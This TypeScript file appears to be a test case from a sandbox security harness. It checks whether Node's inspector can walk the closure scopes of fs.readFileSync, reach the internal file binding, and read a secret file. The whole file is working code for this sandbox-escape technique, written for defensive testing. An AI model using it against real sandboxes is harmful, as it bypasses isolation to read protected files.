// SPDX-License-Identifier: Apache-2.0
import type { Attack } from "../harness/attack.ts";

export const hostile: Attack = {
  claim: "An inspector session takes no internal function out of a closure to read or start anything with it",
  proof: "secret",
  refusals: ["ERR_INSPECTOR_COMMAND", "ERR_INSPECTOR_NOT_AVAILABLE"],
  program: async (cell) => {
    const { Session }: typeof import("node:inspector/promises") = require("node:inspector/promises");
    const session = new Session();
    session.connect();
    // The scopes of Node's own functions hold what they close over: the binding under node:fs, among others.
    Reflect.set(globalThis, "reads", cell.node("node:fs").readFileSync);
    const { result } = await session.post("Runtime.evaluate", { expression: "reads" });
    const { internalProperties = [] } = await session.post("Runtime.getProperties", {
      objectId: result.objectId ?? "",
    });
    const scopes = internalProperties.find(({ name }) => name === "[[Scopes]]")?.value?.objectId;
    const { result: listed } = await session.post("Runtime.getProperties", { objectId: scopes ?? "" });
    for (const scope of listed) {
      const { result: held } = await session.post("Runtime.getProperties", {
        objectId: scope.value?.objectId ?? "",
      });
      const binding = held.find(({ name }) => name === "binding")?.value?.objectId;
      if (binding === undefined) continue;
      const { result: text } = await session.post("Runtime.callFunctionOn", {
        objectId: binding,
        functionDeclaration: "function (path) { return this.readFileUtf8(path, 0); }",
        arguments: [{ value: cell.secret }],
      });
      if (text.subtype === "error") {
        const code = /[A-Z_]{5,}/.exec(text.description ?? "")?.[0];
        return cell.refused(code ?? "EACCES", text.description);
      }
      return cell.loot(String(text.value));
    }
    return cell.refused("NO_EFFECT", "no binding was found");
  },
};
